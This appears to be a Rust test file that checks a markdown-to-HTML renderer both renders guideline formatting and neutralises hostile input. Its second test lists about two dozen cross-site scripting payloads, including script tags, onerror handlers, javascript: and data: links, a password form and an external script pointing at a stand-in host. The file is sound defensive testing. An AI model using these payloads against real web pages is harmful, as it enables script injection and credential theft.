//! Markdown becomes HTML that can do nothing.

use engine::project::render_markdown;

#[test]
fn what_guidelines_need_is_rendered() {
    let html = render_markdown(
        "# 规范\n\n| 标签 | 例 |\n|---|---|\n| 正面 | 好 |\n\n- [x] 完成\n- [ ] 未完\n\n1. 一\n\n~~旧~~ `码` [网](https://example.com)",
    );
    for piece in [
        "<h2>规范</h2>",
        "<td>正面</td>",
        "☑ 完成",
        "☐ 未完",
        "<ol>",
        "<del>旧</del>",
        "<code>码</code>",
        "<a href=\"https://example.com\" rel=\"noopener noreferrer\">网</a>",
    ] {
        assert!(html.contains(piece), "{piece} in {html}");
    }
}

#[test]
fn nothing_in_it_comes_alive() {
    let hostile = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "text <b onmouseover=alert(1)>bold</b>",
        "<style>body{display:none}</style>",
        "<p style=\"position:fixed\">x</p>",
        "<iframe src=https://evil.example></iframe>",
        "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
        "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<form action=https://evil.example><input name=password></form>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=0>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#x09;script:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        "[x](//evil.example)",
        "<javascript:alert(1)>",
        "![x](https://evil.example/pixel.png)",
        "![x](javascript:alert(1) \"t\\\" onerror=alert(1)\")",
        "[a]: javascript:alert(1)\n\n[a]",
        "```html\n<script>alert(1)</script>\n```",
        "# x {#id onclick=alert(1)}",
        "<!-- --><script>alert(1)</script><!-- -->",
        "<div\n\n<script>alert(1)</script>",
        "| a |\n|:-:|\n| <script>alert(1)</script> |",
    ];
    let allowed = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    for text in hostile {
        let html = render_markdown(text);
        // Every `<` of the result begins a tag that is allowed, with no attribute but a link's address.
        for tag in html.split('<').skip(1) {
            let tag = tag.split('>').next().unwrap().trim_start_matches('/');
            let (name, rest) = tag.split_once(char::is_whitespace).unwrap_or((tag, ""));
            assert!(allowed.contains(&name.trim_end_matches('/')), "{name} from {text}: {html}");
            assert!(rest.is_empty() || (name == "a" && !rest.contains("script:") && !rest.contains("data:")), "{html}");
            assert!(!rest.contains("evil"), "{text}: {html}");
        }
    }
}

#[test]
fn html_is_shown_as_the_text_that_it_is() {
    assert_eq!(render_markdown("a < b & <b>c</b>").trim(), "<p>a &lt; b &amp; &lt;b&gt;c&lt;/b&gt;</p>");
    assert_eq!(render_markdown("![一只狗](x.png)").trim(), "<p>一只狗</p>");
    assert_eq!(render_markdown(""), "");
}
